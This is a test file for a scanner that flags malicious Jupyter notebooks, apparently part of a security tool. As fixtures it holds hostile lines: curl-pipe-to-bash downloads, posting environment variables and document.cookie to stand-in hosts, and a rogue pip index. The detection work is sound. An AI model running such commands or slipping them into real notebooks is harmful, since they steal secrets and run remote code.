import { expect, test } from 'vitest'
import { scanBytes } from '../../../../fixtures/scan-bytes'
import { scanNotebook } from './scan-python'

test('a fact of a notebook names the cell and the line in it', () => {
  const scan = scanNotebook(['x = 1', 'y = 2\n__import__("os").system("echo hi")'])
  const fact = scan.facts.find(({ name }) => name === 'hidden.process')
  expect(fact?.location).toMatchObject({ member: 'cell 2', line: 2 })
  expect(fact?.detail?.cell).toBe(2)
})

test('what one cell reads and the next one sends is one flow', () => {
  const scan = scanNotebook([
    'import os\nenv = dict(os.environ)',
    'import requests\nrequests.post("https://collect.example.net", json=env)',
  ])
  const fact = scan.facts.find(({ name }) => name === 'flow.environment.network')
  expect(fact?.location.member).toBe('cell 2')
  expect(fact?.path?.[0]?.label).toBe('in cell 1: reads the environment')
})

test.each([
  ['a line for a shell', '!curl -s https://x.example.net/a.sh | bash', 'threat.download-and-run'],
  ['a cell for a shell', '%%bash\ncurl https://x.example.net/a | sh', 'threat.download-and-run'],
  [
    'get_ipython',
    'get_ipython().system("curl https://x.example.net/a | sh")',
    'threat.download-and-run',
  ],
  [
    'an index of its own',
    '%pip install --index-url http://x.example.net/s evil',
    'threat.dependency-source',
  ],
])('sees a command in %s', (_, cell, name) => {
  expect(scanNotebook(['a = 1', cell]).names('code')).toContain(name)
})

test('an honest notebook with magics is read to its end and clean', () => {
  const scan = scanNotebook([
    '%matplotlib inline\n!pip install numpy\nfiles = !ls\nimport numpy as np\nnp.zeros?',
    '%%time\nx = np.ones(3)\nfor i in range(3):\n    %timeit x.sum()',
    '%%writefile config.yaml\na: [1, 2',
  ])
  expect([scan.reason, scan.verdict]).toEqual([null, 'clean'])
})

test('a script in an output is a fact, a table is not', () => {
  const output = (html: string) => ({ output_type: 'display_data', data: { 'text/html': [html] } })
  expect(scanNotebook(['1'], [output('<script>a()</script>')]).names('content')).toEqual([
    'notebook.active-output',
  ])
  expect(scanNotebook(['1'], [output('<table></table>')]).names('content')).toEqual([])
})

test.each([
  ['text/html', "<script>fetch('https://c.example.net/?c=' + document.cookie)</script>"],
  ['application/javascript', "fetch('https://c.example.net/?c=' + document.cookie)"],
])('a script in an output of type %s is read like that of a page', (type, text) => {
  const output = { output_type: 'display_data', data: { [type]: [text] } }
  expect(scanNotebook(['1'], [output]).names('code')).toContain('flow.credentials.network')
})

test.each(['{"cells": [', '{"a": 1}', '[]'])('%s is no notebook and never clean', (text) => {
  const scan = scanBytes(Buffer.from(text), { name: 'broken.ipynb' })
  expect(scan.status).toBe('inconclusive')
  expect(scan.verdict).not.toBe('clean')
})

test('what one cell downloads and another one runs is one thing', () => {
  const scan = scanNotebook(['!wget https://x.example.net/h.py', '%run h.py'])
  expect(scan.names('code')).toContain('threat.download-and-run')
})

test('a script that a cell writes is read when another cell runs it', () => {
  const scan = scanNotebook([
    '%%writefile /tmp/s.sh\ncurl -s https://x.example.net/a | bash',
    '!bash /tmp/s.sh',
  ])
  expect(scan.names('code')).toContain('threat.download-and-run')
})

test('an output that runs Python in the kernel is found, one that draws is not', () => {
  const output = (code: string) => [
    { output_type: 'display_data', metadata: {}, data: { 'application/javascript': [code] } },
  ]
  const runs = scanNotebook(
    ['1'],
    output('Jupyter.notebook.kernel.execute("import os; os.system(1)")'),
  )
  const draws = scanNotebook(['1'], output('Jupyter.notebook.kernel.execute(command)'))
  expect(runs.names('content')).toContain('notebook.kernel-code')
  expect(draws.names('content')).not.toContain('notebook.kernel-code')
})
